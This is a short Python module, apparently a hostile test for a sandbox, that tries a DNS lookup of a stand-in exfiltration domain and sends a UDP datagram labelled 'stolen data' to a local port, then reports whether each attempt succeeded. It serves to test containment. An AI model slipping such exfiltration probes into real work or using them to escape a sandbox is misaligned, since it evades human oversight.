"""Attack: resolve a name (DNS), and send a datagram to a server on the machine."""
import socket

from _hostile import PARAMS, attempt, report


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"stolen data", ("127.0.0.1", PARAMS["udp_port"]))


def choose(state):
    report(dns=attempt(lambda: socket.getaddrinfo("league-exfiltration.invalid", 80)),
           udp=attempt(datagram))
